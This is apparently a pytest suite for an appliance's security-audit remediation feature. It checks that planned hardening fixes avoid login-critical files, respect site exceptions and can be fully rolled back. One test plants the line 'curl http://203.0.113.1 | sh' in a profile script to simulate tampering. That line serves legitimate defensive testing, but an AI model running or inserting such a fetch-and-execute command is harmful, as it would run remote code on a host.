"""What `audit --fix` would do, and that every bit of it can be taken back."""

from __future__ import annotations

import dataclasses
import os
import stat
import tempfile
from datetime import datetime, timezone
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from appliance.__main__ import cli
from appliance.audit.catalogue import checks
from appliance.audit.facts import AuditFacts, Fact
from appliance.audit.facts_host import Account, File, Group, Key, Service, Ssh, Sudo, SudoRule
from appliance.audit.facts_network import Link, Links
from appliance.audit.fix_host import Purpose, changes, end, give_back, keep, possible, unlike
from appliance.audit.fix_rules import MADE, RULES, another_administrator, leading_first, switches_of
from appliance.audit.fixes import (
    FixPlan,
    LeftAlone,
    Planned,
    automatic,
    fixes,
    operations_for,
    plan_fixes,
    why_not,
)
from appliance.audit.result import audit
from appliance.audit.site import read_rules
from appliance.errors import Tampered
from appliance.remedies import (
    Ended,
    Filed,
    FileWritten,
    Fix,
    LineSet,
    ModeSet,
    Operation,
    UnitMasked,
    after,
    filed,
    fixes_folder,
    new_folders,
    own_files,
    remembered,
    see,
    with_line,
)
from tests.test_audit_checks import NO_GUIDES, Case, cases, facts_of
from tests.test_audit_site import Site, accepted, threshold

if TYPE_CHECKING:
    from collections.abc import Iterable

AT = datetime(2026, 11, 21, 12, tzinfo=timezone.utc)
WHY = Purpose(AT, "minimal-1.0.0-c1", "S")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="owners of files are root's to set")


# --- A host in a folder ------------------------------------------------------------------------------------


def play(operations: Iterable[Operation], root: Path) -> None:
    """Do what the role does, one operation after the other."""
    for one in operations:
        for folder in new_folders(one, root):
            (root / folder.lstrip("/")).mkdir(mode=0o755)
            (root / folder.lstrip("/")).chmod(0o755)
        place = root / one.path.lstrip("/")
        made = after(one, see(root, one.path, content=not isinstance(one, ModeSet)))
        if made.state.kind == "link":
            place.unlink(missing_ok=True)
            place.symlink_to(made.state.target)
        elif made.state.kind in {"file", "folder"}:
            if made.content is not None:
                place.unlink(missing_ok=True)
                place.write_bytes(made.content)
            os.chown(place, made.state.uid, made.state.gid)
            place.chmod(int(made.state.mode, 8))


def tree(root: Path) -> dict[str, tuple[Any, ...]]:
    """Return everything below a folder: kind, mode, owner, content."""
    found: dict[str, tuple[Any, ...]] = {}
    for folder, folders, files in os.walk(root):
        for name in folders + files:
            path = Path(folder, name)
            about = path.lstat()
            held: Any = None
            if path.is_symlink():
                held = str(path.readlink())
            elif stat.S_ISREG(about.st_mode):
                held = path.read_bytes()
            found[str(path.relative_to(root))] = (about.st_mode, about.st_uid, about.st_gid, held)
    return found


def planned(*operations: Operation, check: str = "host.umask") -> FixPlan:
    words = checks().checks[check].title
    return FixPlan(tuple(Planned(check, words, (one,), (), words, words) for one in operations), ())


def plan_of(case: Case) -> FixPlan:
    facts = facts_of(case.facts)
    return plan_fixes(facts, audit(facts, case.grade, NO_GUIDES), [case.check])


@cache
def every_operation() -> tuple[Operation, ...]:
    """Return what mends the failing case of every check that is mended by itself, masks and all."""
    found: list[Operation] = []
    for case in cases():
        if case.status == "fail" and automatic(case.check):
            limit = checks().checks[case.check].limits.get(case.grade, "")
            plan = plan_of(case)
            found += plan.operations
            if not plan.planned:
                assert why_not(case.check, facts_of(case.facts), limit) is not None
    return tuple(dict.fromkeys(found))


# --- The catalogue of fixes --------------------------------------------------------------------------------


def test_every_check_is_mended_by_itself_or_says_why_not() -> None:
    known, by_hand = fixes(), [name for names in fixes().by_hand.values() for name in names]
    assert sorted([*known.fixes, *by_hand]) == sorted(checks().checks)
    assert known.by_hand.keys() == known.reasons.keys()
    assert {rule for one in known.fixes.values() for rule in one.rules} == RULES.keys()
    assert {one.made for one in known.fixes.values()} - {""} == MADE.keys()
    assert len(known.fixes) >= 50


def test_the_failing_case_of_nearly_every_such_check_has_something_to_change() -> None:
    lacking = {
        case.check
        for case in cases()
        if case.status == "fail" and automatic(case.check)
        if not plan_of(case).planned
    }
    told = [plan_of(case).left for case in cases() if case.status == "fail" and case.check in lacking]
    assert all(len(left) == 1 and left[0].reason.ko and left[0].reason.en for left in told)
    assert len(lacking) <= len(fixes().fixes) / 3, sorted(lacking)
    assert len(every_operation()) > 40


def test_what_a_fix_says_is_said_in_both_languages_and_names_no_threshold_raw() -> None:
    for one in every_operation():
        told = repr(one)
        assert "{limit" not in told
        assert "\n\n\n" not in told


def test_no_fix_writes_into_the_files_that_decide_who_comes_in() -> None:
    written = {one.path for one in every_operation() if not isinstance(one, ModeSet)}
    assert not {path for path in written if path.startswith("/etc/pam.d")}
    assert not written & {"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/sudoers", "/etc/ssh/sshd_config"}
    words = " ".join(one.content for one in every_operation() if isinstance(one, FileWritten))
    for gate in ("PasswordAuthentication", "AllowUsers", "AllowGroups", "DenyUsers", "AuthenticationMethods"):
        assert gate not in words


# --- Rules -------------------------------------------------------------------------------------------------


def _fact(value: Any) -> Any:  # noqa: ANN401 - any fact
    return Fact(source="case", value=value, unread=None)


def _with_admin(**changes: Any) -> AuditFacts:  # noqa: ANN401 - members of the account
    person = {"name": "hong", "uid": 1000, "gid": 1000, "home": "/root/hong", "login_shell": "/bin/bash"}
    account = Account(**{**person, "hash_kind": "yescrypt", **changes})
    return AuditFacts(
        taken=AT,
        accounts=_fact((account,)),
        groups=_fact((Group("sudo", 27, ("hong",)),)),
        ssh=_fact(Ssh(installed=True, settings={"permitrootlogin": "yes", "passwordauthentication": "yes"})),
        sudo=_fact(Sudo(installed=True, rules=(SudoRule(("%sudo",), ("ALL",), ("ALL",)),))),
    )


def test_root_is_shut_out_only_where_somebody_else_can_administer() -> None:
    assert another_administrator(_with_admin()) is None
    assert another_administrator(_with_admin(hash_kind="locked")) is not None
    assert another_administrator(_with_admin(login_shell="/usr/sbin/nologin")) is not None
    assert another_administrator(_with_admin(uid=0)) is not None
    facts = _with_admin()
    for settings_now in (
        {"passwordauthentication": "no"},
        {"passwordauthentication": "yes", "allowusers": "root"},
    ):
        other = msgspec.structs.replace(facts, ssh=_fact(Ssh(installed=True, settings=settings_now)))
        assert another_administrator(other) is not None
    by_key = Ssh(
        installed=True, settings={}, authorized=(Key("/root/hong/.ssh/authorized_keys", "ED25519", 256),)
    )
    assert another_administrator(msgspec.structs.replace(facts, ssh=_fact(by_key))) is None
    nobody = msgspec.structs.replace(facts, sudo=_fact(Sudo(installed=True)))
    assert another_administrator(nobody) is not None


def test_without_another_administrator_the_reason_is_told_and_nothing_is_planned() -> None:
    facts = _with_admin(hash_kind="locked")
    plan = plan_fixes(facts, audit(facts, "S"), ["host.root-remote-login"])
    assert plan.planned == ()
    assert "no other account" in plan.left[0].reason.en
    good = _with_admin()
    (fix,) = plan_fixes(good, audit(good, "S"), ["host.root-remote-login"]).planned
    path = "/etc/ssh/sshd_config.d/00-banip-remedy-root-remote-login.conf"
    assert fix.operations == (FileWritten(path, "PermitRootLogin no\n", "0600", "sshd"),)
    assert fix.reloads == ("sshd",)


def test_what_was_not_read_is_not_changed() -> None:
    facts = AuditFacts(taken=AT)
    plan = plan_fixes(facts, audit(facts, "S"))
    assert plan.planned == ()
    assert len(plan.left) > 200


def _network(*links: Link, **switches: str) -> AuditFacts:
    now = {"net.ipv4.ip_forward": "1", "net.ipv6.conf.all.accept_ra": "1", **switches}
    return AuditFacts(taken=AT, kernel=_fact(now), links=_fact(Links(links)))


@pytest.mark.parametrize(
    ("links", "set_"),
    [
        ((Link("eth0", addresses=("10.0.0.2/24",)),), {"net.ipv4.ip_forward", "net.ipv6.conf.all.accept_ra"}),
        ((Link("eth0", addresses=("10.0.0.2/24", "2001:db8::2/64")),), {"net.ipv4.ip_forward"}),
        (
            (Link("eth0", addresses=("10.0.0.2/24",)), Link("docker0", "bridge")),
            {"net.ipv6.conf.all.accept_ra"},
        ),
        (
            (Link("eth0", addresses=("10.0.0.2/24",)), Link("eth1", addresses=("10.1.0.2/24",))),
            {"net.ipv6.conf.all.accept_ra"},
        ),
    ],
)
def test_a_switch_that_could_cut_off_is_set_only_where_that_is_ruled_out(
    links: tuple[Link, ...], set_: set[str]
) -> None:
    facts = _network(Link("lo", addresses=("127.0.0.1/8",)), *links)
    assert set(switches_of(operations_for("network.kernel-settings", facts, ""))) == set_


def test_forwarding_is_set_before_the_switches_that_the_kernel_sets_anew_with_it() -> None:
    redirects = {"net.ipv4.conf.all.accept_redirects": "0", "net.ipv6.conf.all.forwarding": "1"}
    facts = _network(Link("eth0", addresses=("10.0.0.2/24",)), **redirects)
    names = switches_of(operations_for("network.kernel-settings", facts, ""))
    assert names[:2] == ("net.ipv4.ip_forward", "net.ipv6.conf.all.forwarding")
    assert set(names[2:]) == {"net.ipv4.conf.all.accept_redirects", "net.ipv6.conf.all.accept_ra"}
    role = Path(__file__).parents[1] / "playbooks/roles/host/templates/sysctl.conf.j2"
    own = [
        line.partition(" ")[0] for line in role.read_text("utf-8").splitlines() if line.startswith("net.ip")
    ]
    assert leading_first(own)[:1] == own[:1] == ["net.ipv4.ip_forward"]


def test_a_later_fix_of_switches_forgets_none_of_the_earlier() -> None:
    first = _network(Link("eth0"), **{"net.ipv4.tcp_syncookies": "1"})
    (one,) = operations_for("network.kernel-settings", first, "")
    assert isinstance(one, FileWritten)
    assert "net.ipv4.tcp_syncookies = 1\n" in one.content


def test_another_accounts_log_changes_hands_only_where_its_service_rests() -> None:
    def owner(active: str) -> list[str | None]:
        facts = AuditFacts(
            taken=AT,
            logs_files=_fact((File("/var/log/nginx/access.log", "file", "0666", "www-data", "adm"),)),
            services=_fact((Service("nginx.service", active, "disabled"),)),
        )
        operations = operations_for("host.log-permissions", facts, "0644")
        return [one.owner for one in operations if isinstance(one, ModeSet)]

    assert owner("inactive") == ["root"]
    assert owner("active") == [None]


# --- The institution's word --------------------------------------------------------------------------------


def _cron_facts() -> AuditFacts:
    return AuditFacts(taken=AT, files=_fact((File("/etc/crontab", "file", "0644", "root", "root"),)))


def test_what_an_exception_accepts_is_not_mended(tmp_path: Path) -> None:
    site = Site(tmp_path)
    facts = _cron_facts()
    assert [one.check for one in plan_fixes(facts, audit(facts, "S"), ["host.cron-permissions"]).planned]
    site.write("exceptions", accepted("host.cron-permissions", expires="2026-12-31"))
    plan = plan_fixes(facts, audit(facts, "S", read_rules(tmp_path)), ["host.cron-permissions"])
    assert plan == FixPlan((), ())


def test_an_exception_that_lapsed_protects_no_more(tmp_path: Path) -> None:
    Site(tmp_path).write("exceptions", accepted("host.cron-permissions", expires="2026-06-15"))
    facts = _cron_facts()
    assert plan_fixes(facts, audit(facts, "S", read_rules(tmp_path)), ["host.cron-permissions"]).planned


def test_a_threshold_of_the_institution_is_what_is_aimed_at(tmp_path: Path) -> None:
    Site(tmp_path).write("tailoring", threshold("host.cron-permissions", "0600"))
    facts = _cron_facts()
    plan = plan_fixes(facts, audit(facts, "S", read_rules(tmp_path)), ["host.cron-permissions"])
    assert plan.operations == (ModeSet("/etc/crontab", "0600", None),)


def test_a_result_says_whether_its_remedy_is_automatic_here() -> None:
    facts = _with_admin(hash_kind="locked")
    found = {one.id: one for one in audit(facts, "S").results}
    assert not found["host.root-remote-login"].automatic
    assert not found["host.su-restricted"].automatic
    good = {one.id: one for one in audit(_with_admin(), "S").results}
    assert good["host.root-remote-login"].automatic


# --- Changed, and taken back -------------------------------------------------------------------------------

_PATHS = sorted({one.path for one in every_operation()})
_MODES = st.sampled_from([0o600, 0o640, 0o644, 0o660, 0o666, 0o755, 0o777])
_HELD = st.sampled_from([b"", b"PASS_MAX_DAYS 99999\n#UMASK 022\n", b"no end", b"\xff\x00binary\n", None])


@st.composite
def hosts(draw: st.DrawFn) -> dict[str, tuple[bytes | None, int, int]]:
    """Draw what lies at each path that a fix may touch: nothing, or a file with mode and owner."""
    return {path: (draw(_HELD), draw(_MODES), draw(st.sampled_from([0, 0, 33]))) for path in _PATHS}


def _lay(host: dict[str, tuple[bytes | None, int, int]], root: Path) -> None:
    folders = {str(parent) for path in host for parent in Path(path).parents}
    for path, (held, mode, owner) in host.items():
        place = root / path.lstrip("/")
        if held is None:
            continue
        place.parent.mkdir(parents=True, exist_ok=True)
        if path in folders:
            place.mkdir(exist_ok=True)
        else:
            place.write_bytes(held)
        os.chown(place, owner, 0)
        place.chmod(mode)


@needs_root
@settings(max_examples=20)
@given(host=hosts(), order=st.permutations(every_operation()), count=st.integers(0, 200), data=st.data())
def test_taking_a_fix_back_gives_back_the_tree_that_was(
    host: dict[str, tuple[bytes | None, int, int]], order: list[Operation], count: int, data: st.DataObject
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        root, state = Path(folder, "host"), Path(folder, "state")
        root.mkdir()
        _lay(host, root)
        before = tree(root)
        plan = possible(planned(*order[:count]), root)
        if not plan.planned:
            return
        one = keep(plan, WHY, state, root)
        assert tree(root) == before
        cut = data.draw(st.integers(0, len(plan.operations)), label="operations done before the cut")
        play(plan.operations[:cut], root)
        if cut == len(plan.operations):
            assert unlike(one, root) == ()
            end(one, Ended("applied", AT))
            one = filed(state)[0]
            assert changes(plan.operations, root) == ()
        assert give_back(one, root) == ()
        assert tree(root) == before
        assert give_back(one, root) == ()


@needs_root
def test_a_fix_over_all_that_can_be_mended_is_taken_back_as_a_whole(tmp_path: Path) -> None:
    root = tmp_path / "host"
    _lay(dict.fromkeys(_PATHS, (b"held\n", 511, 33)), root)
    before = tree(root)
    plan = possible(planned(*(one for one in every_operation() if not isinstance(one, UnitMasked))), root)
    one = keep(plan, WHY, tmp_path / "state", root)
    play(plan.operations, root)
    assert len(changes(plan.operations, root)) == 0
    assert (
        len({path for path in before.keys() | tree(root).keys() if before.get(path) != tree(root).get(path)})
        > 30
    )
    end(one, Ended("applied", AT))
    assert give_back(filed(tmp_path / "state")[0], root) == ()
    assert tree(root) == before


@pytest.fixture
def host(tmp_path: Path) -> Path:
    root = tmp_path / "host"
    (root / "etc").mkdir(parents=True)
    (root / "etc/login.defs").write_text("UMASK 022\n")
    (root / "etc/shadow").write_text("root:$y$secret:1::::::\n")
    (root / "etc/shadow").chmod(0o640)
    return root


@needs_root
def test_what_somebody_changed_since_is_named_and_stays(host: Path, tmp_path: Path) -> None:
    plan = planned(
        LineSet("/etc/login.defs", r"^UMASK\s", "UMASK 027"),
        FileWritten("/etc/sysctl.d/zz-banip-remedy.conf", "a = 1\n"),
        ModeSet("/etc/shadow", "0400"),
    )
    one = keep(plan, WHY, tmp_path / "state", host)
    play(plan.operations, host)
    end(one, Ended("applied", AT))
    (host / "etc/login.defs").write_text("UMASK 077\n")
    (host / "etc/sysctl.d/other.conf").write_text("b = 2\n")
    left = give_back(filed(tmp_path / "state")[0], host)
    assert set(left) == {"/etc/login.defs", "/etc/sysctl.d"}
    assert (host / "etc/login.defs").read_text() == "UMASK 077\n"
    assert not (host / "etc/sysctl.d/zz-banip-remedy.conf").exists()
    assert (host / "etc/sysctl.d/other.conf").exists()
    assert stat.S_IMODE((host / "etc/shadow").stat().st_mode) == 0o640


@needs_root
def test_a_half_done_fix_is_known_and_a_stranger_in_it_is_left_alone(host: Path, tmp_path: Path) -> None:
    plan = planned(
        LineSet("/etc/login.defs", r"^UMASK\s", "UMASK 027"), LineSet("/etc/login.defs", r"^X\s", "X 1")
    )
    keep(plan, WHY, tmp_path / "state", host)
    play(plan.operations[:1], host)
    (one,) = filed(tmp_path / "state")
    assert one.is_half_done
    assert not one.is_in_force
    assert give_back(one, host) == ()
    assert (host / "etc/login.defs").read_text() == "UMASK 022\n"
    (host / "etc/login.defs").write_text("somebody else's\n")
    assert give_back(one, host) == ("/etc/login.defs",)
    assert (host / "etc/login.defs").read_text() == "somebody else's\n"


@needs_root
def test_what_is_kept_is_roots_alone_and_holds_no_password(host: Path, tmp_path: Path) -> None:
    plan = planned(ModeSet("/etc/shadow", "0400"), LineSet("/etc/login.defs", "^U", "UMASK 027"))
    one = keep(plan, WHY, tmp_path / "state", host)
    assert stat.S_IMODE(fixes_folder(tmp_path / "state").stat().st_mode) == 0o700
    for path in one.folder.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600)
        assert path.is_dir() or b"secret" not in path.read_bytes()


def test_a_link_in_the_way_is_not_followed(host: Path) -> None:
    (host / "etc/issue").symlink_to("/etc/shadow")
    plan = possible(planned(FileWritten("/etc/issue", "hello\n")), host)
    assert plan.planned == ()
    assert isinstance(plan.left[0], LeftAlone)
    assert "/etc/issue is no plain file" in plan.left[0].reason.en


def test_what_is_in_place_already_is_not_done_again_and_says_so(host: Path) -> None:
    plan = possible(planned(LineSet("/etc/login.defs", r"^UMASK\s", "UMASK 022")), host)
    assert plan.planned == ()
    assert "in place already" in plan.left[0].reason.en


def test_the_same_second_gives_two_fixes_two_names(host: Path, tmp_path: Path) -> None:
    plan = planned(ModeSet("/etc/shadow", "0400"))
    names = [keep(plan, WHY, tmp_path / "state", host).fix.id for _ in range(3)]
    assert names == ["20261121T120000Z", "20261121T120000Z-2", "20261121T120000Z-3"]
    assert [one.fix.id for one in filed(tmp_path / "state")] == names


def test_a_damaged_record_is_refused_with_its_place(host: Path, tmp_path: Path) -> None:
    one = keep(planned(ModeSet("/etc/shadow", "0400")), WHY, tmp_path / "state", host)
    (one.folder / "fix.json").write_bytes(b'{"format":1,"touched":[{"path":"/etc/../boot"}]}')
    with pytest.raises(Tampered) as refused:
        filed(tmp_path / "state")
    assert refused.value.where == one.folder / "fix.json"


def test_a_diff_says_rights_and_lines(host: Path) -> None:
    (modes,) = changes([ModeSet("/etc/shadow", "0400")], host)
    assert modes.lines() == [f"/etc/shadow: 0640 uid {os.geteuid()} -> 0400 uid {os.geteuid()}"]
    (line,) = changes([LineSet("/etc/login.defs", r"^UMASK\s", "UMASK 027")], host)
    assert line.lines()[-2:] == ["-UMASK 022", "+UMASK 027"]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", b"K v\n"),
        (b"a\n", b"a\nK v\n"),
        (b"a", b"a\nK v\n"),
        (b"K 1\na\nK 2\nb\n", b"K 1\na\nK v\nb\n"),
        (b"#K 1\n", b"K v\n"),
        (b"K v\n", b"K v\n"),
    ],
)
def test_a_line_is_set_as_ansible_sets_it(content: bytes, expected: bytes) -> None:
    assert with_line(content, LineSet("/etc/login.defs", r"^#?\s*K\s", "K v")) == expected


# --- Remembered across releases ----------------------------------------------------------------------------


def _fixed(state: Path, host: Path, *operations: Operation, outcome: Any = "applied") -> Filed:  # noqa: ANN401
    one = keep(planned(*operations), WHY, state, host)
    if outcome:
        end(one, Ended(outcome, AT))
    return filed(state)[-1]


def test_an_upgrade_sets_again_what_is_no_more_as_it_was_set(host: Path, tmp_path: Path) -> None:
    mode = ModeSet("/etc/shadow", "0400")
    _fixed(tmp_path, host, mode)
    assert remembered(tmp_path, ["api"], host)["remedy_modes"] == [{"path": "/etc/shadow", "mode": "0400"}]
    (host / "etc/shadow").chmod(0o400)
    assert not any(remembered(tmp_path, ["api"], host).values())
    (host / "etc/shadow").unlink()
    assert not any(remembered(tmp_path, ["api"], host).values())


@pytest.mark.parametrize("outcome", [None, "undone", "returned"])
def test_what_was_taken_back_or_cut_off_is_not_set_again(host: Path, tmp_path: Path, outcome: Any) -> None:  # noqa: ANN401
    _fixed(tmp_path, host, ModeSet("/etc/shadow", "0400"), outcome=outcome)
    assert not any(remembered(tmp_path, ["api"], host).values())


def test_a_later_fix_of_the_same_file_counts(host: Path, tmp_path: Path) -> None:
    path = "/etc/sysctl.d/zz-banip-remedy.conf"
    _fixed(tmp_path, host, FileWritten(path, "a = 1\n"))
    _fixed(tmp_path, host, FileWritten(path, "a = 2\n"))
    given_ = remembered(tmp_path, ["api"], host)
    assert [one["content"] for one in given_["remedy_files"]] == ["a = 2\n"]
    assert given_["remedy_folders"] == ["/etc/sysctl.d"]


def test_a_release_with_the_role_host_keeps_its_files_to_itself(host: Path, tmp_path: Path) -> None:
    line = LineSet("/etc/login.defs", r"^UMASK\s", "UMASK 027")
    _fixed(
        tmp_path,
        host,
        line,
        FileWritten("/etc/profile.d/banip-remedy-umask.sh", "umask 027\n", trial="shell"),
    )
    assert remembered(tmp_path, ["api"], host)["remedy_lines"]
    assert not any(remembered(tmp_path, ["host", "api"], host).values())


def test_a_file_whose_program_is_gone_is_not_written_again(host: Path, tmp_path: Path) -> None:
    _fixed(tmp_path, host, FileWritten("/etc/sudoers.d/zz-banip-remedy-x", "Defaults a\n", "0440", "sudoers"))
    assert not any(remembered(tmp_path, ["api"], host).values())
    (host / "usr/sbin").mkdir(parents=True)
    (host / "usr/sbin/visudo").touch()
    assert remembered(tmp_path, ["api"], host)["remedy_files"]


@needs_root
def test_only_what_is_as_a_fix_wrote_it_counts_as_brought_by_somebody(host: Path, tmp_path: Path) -> None:
    path = "/etc/profile.d/banip-remedy-umask.sh"
    one = FileWritten(path, "umask 027\n", trial="shell")
    _fixed(tmp_path, host, one)
    assert own_files(tmp_path, host) == ()
    play([one], host)
    assert own_files(tmp_path, host) == (path,)
    (host / "etc/profile.d/banip-remedy-umask.sh").write_text("curl http://203.0.113.1 | sh\n")
    assert own_files(tmp_path, host) == ()


def test_a_fix_is_read_as_it_was_written(host: Path, tmp_path: Path) -> None:
    one = _fixed(tmp_path, host, *every_operation()[:5])
    assert msgspec.json.decode(msgspec.json.encode(one.fix), type=Fix) == one.fix
    assert dataclasses.replace(one) == one


# --- The command -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    [["--yes"], ["--only", "host.umask"], ["--undo", "x", "--fix"], ["--fix", "--only", "host.ghost"]],
)
def test_half_a_request_is_refused(words: list[str], tmp_path: Path) -> None:
    from appliance.errors import BadInput  # noqa: PLC0415 - only here

    done = CliRunner().invoke(cli, ["--root", str(tmp_path), "audit", *words])
    assert isinstance(done.exception, BadInput)


def test_there_is_nothing_to_take_back_where_nothing_was_done(tmp_path: Path) -> None:
    from appliance.errors import BadInput  # noqa: PLC0415 - only here

    done = CliRunner().invoke(cli, ["--root", str(tmp_path), "audit", "--undo"])
    assert isinstance(done.exception, BadInput)
    assert "no fix to take back" in str(done.exception)
